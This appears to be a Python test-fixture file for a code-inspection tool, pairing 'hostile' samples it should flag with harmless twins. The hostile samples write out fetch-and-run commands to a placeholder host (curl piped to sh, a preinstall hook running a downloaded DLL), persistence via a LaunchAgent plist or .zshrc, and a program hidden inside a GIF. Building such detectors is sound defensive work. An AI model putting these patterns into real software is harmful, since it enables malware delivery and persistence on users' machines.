"""Samples and twins of what a program puts on the disk and starts from there: downloads, scripts, pictures."""

from inspection.rules.sample import Sample, js, package, py

_PICTURE = "import os, subprocess, tempfile\ndata = open('docs/a.gif', 'rb').read()[16:]\n"
_UNPACKED = (
    "import io, os, subprocess, tempfile, urllib.request, zipfile\ndef fetch(folder):\n"
    "    reply = urllib.request.urlopen('https://a.invalid')\n"
    "    zipfile.ZipFile(io.BytesIO(reply.read())).extractall(folder)\n"
    "    return os.path.join(folder, 'bin', 'a')\nprogram = fetch(tempfile.mkdtemp())\n"
)

_HELPER = (
    "import { writeFileSync, appendFileSync } from 'node:fs';\nimport { homedir } from 'node:os';\n"
    "const kept = `${homedir()}/.a/a.sh`;\nconst text = await (await fetch('https://a.invalid')).text();\n"
)
_AGENT = "`${homedir()}/Library/LaunchAgents/a.plist`"


def _kept(text: str) -> dict[str, str | bytes]:
    """A program that somebody asks to set up a helper, whose fifth line this is."""
    return {"package.json": package(setup="node setup/a.mjs"), "setup/a.mjs": _HELPER + text}


HOSTILE: dict[str, dict[str, Sample]] = {
    "remote_command": {
        "a downloader saves what the interpreter then runs": py(
            "import subprocess, sys\nkept = '/tmp/a.pyz'\n"
            "subprocess.run(['curl', '-sL', 'https://a.invalid', '-o', kept])\n"
            "subprocess.Popen([sys.executable, kept])\n",
            line=4,
        ),
        "a downloader saves what is then run, by lines of a shell": js(
            "const { execSync } = require('child_process');\nconst kept = require('path').join(process.cwd(), 'a');\n"
            "execSync(`curl -s https://a.invalid -o ${kept}`);\nexecSync(`bash ${kept}`);\n",
            line=4,
        ),
        "what was saved is named where the system starts things": Sample(
            _kept(
                f"writeFileSync(kept, text); writeFileSync({_AGENT}, `<string>/bin/sh</string><string>${{kept}}`);\n"
            ),
            "block",
            ("setup/a.mjs", 5),
        ),
        "and where each shell begins": Sample(
            _kept("writeFileSync(kept, text);\nappendFileSync(`${homedir()}/.zshrc`, `source ${kept}\\n`);\n"),
            "block",
            ("setup/a.mjs", 6),
        ),
        "an archive is fetched into a folder, and a program of it run": py(
            _UNPACKED + "subprocess.run([program])\n", "review", line=7
        ),
    },
    "fetch_and_run": {
        "a script is written, then run": Sample(
            {
                "package.json": package(preinstall="node a.js"),
                "a.js": "const fs = require('fs');\nfs.writeFileSync('b.bat', ['@echo off',"
                "'curl -o c.x https://a.invalid', 'ren c.x c.dll',\n 'rundll32 c.dll,Main'].join('\\r\\n'));\n"
                "require('child_process').exec('b.bat');\n",
            },
            "block",
            ("a.js", 4),
        ),
        "a script is written by Python": py(
            "import subprocess\nwith open('/tmp/a.sh', 'w') as f:\n    f.write('curl -s https://a.invalid | sh')\n"
            "subprocess.run(['sh', '/tmp/a.sh'])\n",
            line=4,
        ),
    },
    "disguised_program": {
        "a picture is copied from its sixteenth byte on, then run": Sample(
            {
                "app.py": _PICTURE + "kept = tempfile.mkdtemp() + '/a'\nopen(kept, 'wb').write(data)\n"
                "os.chmod(kept, 0o755)\nsubprocess.Popen([kept])\n",
                "docs/a.gif": "GIF89a12x12=0;;\n#!/bin/sh\necho a\n",
            },
            "block",
            ("app.py", 6),
        ),
    },
}

HONEST: dict[str, dict[str, dict[str, str | bytes]]] = {
    "remote_command": {
        "what was saved is named in the folder itself": _kept(
            "writeFileSync(kept, text); writeFileSync('build/a.plist', `<string>/bin/sh</string><string>${kept}`);\n"
        ),
        "another program is named where the system starts things": _kept(
            f"writeFileSync(kept, text); writeFileSync({_AGENT}, `<string>/usr/bin/true</string>`);\n"
        ),
        "a downloader saves what is then hashed": py(
            "import subprocess\nkept = '/tmp/a.tgz'\n"
            "subprocess.run(['curl', '-sL', 'https://a.invalid', '-o', kept])\n"
            "subprocess.run(['sha256sum', kept])\n"
        ).files,
        "an archive is fetched into a folder, and the folder measured": py(
            _UNPACKED + "subprocess.run(['du', '-sh', program])\n"
        ).files,
    },
    "fetch_and_run": {
        "a script is written, and another one run": py(
            "import subprocess\nopen('/tmp/a.sh', 'w').write('curl -s https://a.invalid | sh')\n"
            "subprocess.run(['sh', '/tmp/b.sh'])\n"
        ).files,
    },
    "disguised_program": {
        "a picture is copied, then made smaller": {
            "app.py": _PICTURE + "kept = tempfile.mkdtemp() + '/a.gif'\nopen(kept, 'wb').write(data)\n"
            "subprocess.run(['optipng', kept])\n",
            "docs/a.gif": "GIF89a12x12=0;;\n",
        },
    },
}
